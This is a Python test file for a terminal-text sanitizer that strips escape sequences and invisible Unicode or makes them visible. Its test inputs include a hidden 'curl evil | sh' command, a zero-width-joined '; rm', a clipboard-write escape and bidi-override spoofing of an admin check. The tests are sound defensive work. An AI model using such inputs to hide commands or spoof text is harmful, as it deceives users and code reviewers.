"""Sanitizing of untrusted text."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kimi_tui.base.terminal_text import (
    has_invisible,
    sanitize,
    sanitize_code_line,
    sanitize_line,
    show_invisible,
)


@pytest.mark.parametrize(
    ("dirty", "clean"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]0;title\x07text", "text"),
        ("\x1b]52;c;ZXZpbA==\x1b\\text", "text"),
        ("\x1b]8;;http://evil\x07link\x1b]8;;\x07", "link"),
        ("\x9b31mred", "red"),
        ("a\x1bPdcs\x1b\\b", "ab"),
        ("unfinished \x1b]0;title", "unfinished "),
        ("bell\x07 back\x08space nul\x00", "bell backspace nul"),
        ("10%\r50%\r100%\ndone", "100%\ndone"),
        ("dos\r\nlines\r\n", "dos\nlines\n"),
        ("user\u202egnp.exe", "usergnp.exe"),
        ("ls \u200d; rm", "ls ; rm"),
        (
            "a family 👩\u200d👩\u200d👧 and a heart ❤\ufe0f stay",
            "a family 👩\u200d👩\u200d👧 and a heart ❤\ufe0f stay",
        ),
        ("tab\tand 中文 stay", "tab\tand 中文 stay"),
        ("half \ud800 pair", "half \ufffd pair"),
    ],
)
def test_escape_sequences_and_controls_are_removed(dirty: str, clean: str) -> None:
    assert sanitize(dirty) == clean


@given(st.text())
def test_only_tab_and_newline_remain_of_control_characters(text: str) -> None:
    assert not [
        char
        for char in sanitize(text)
        if (ord(char) < 0x20 and char not in "\t\n") or 0x7F <= ord(char) < 0xA0
    ]


def test_white_space_is_collapsed_to_one_line() -> None:
    assert sanitize_line("  a\n\tb\x1b[2J  ") == "a b"


def test_a_line_of_code_keeps_its_indentation() -> None:
    assert sanitize_code_line("+\treturn  a\x1b[2J \r\n") == "+   return  a"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("curl evil | sh #\recho hello", "curl evil | sh #␍echo hello"),
        ("a\x1b]0;\nimport evil\n\x07b", "a␛]0;\nimport evil\n␇b"),
        ("\x9b31mred\x1b[0m", "⟨U+009B⟩31mred␛[0m"),
        (
            "if access != 'user\u202e \u2066# admin\u2069'",
            "if access != 'user⟨U+202E⟩ ⟨U+2066⟩# admin⟨U+2069⟩'",
        ),
        ("a\u200bb\ufeff\u3164\u2028\U000e0041\x7f", "a⟨U+200B⟩b⟨U+FEFF⟩⟨U+3164⟩⟨U+2028⟩⟨U+E0041⟩␡"),
        ("x \u200d; y", "x ⟨U+200D⟩; y"),
    ],
)
def test_invisible_characters_are_made_visible(text: str, shown: str) -> None:
    assert show_invisible(text) == shown
    assert has_invisible(text)
    assert sanitize(show_invisible(text)) == shown


def test_visible_text_is_unchanged() -> None:
    text = "tab\tand 中文\n👩\u200d👩\u200d👧 ❤\ufe0f می\u200cخواهم\u00a0é\n"
    assert show_invisible(text) == text
    assert show_invisible("dos\r\nlines\r\n") == "dos\nlines\n"
    assert not has_invisible("dos\r\nlines")
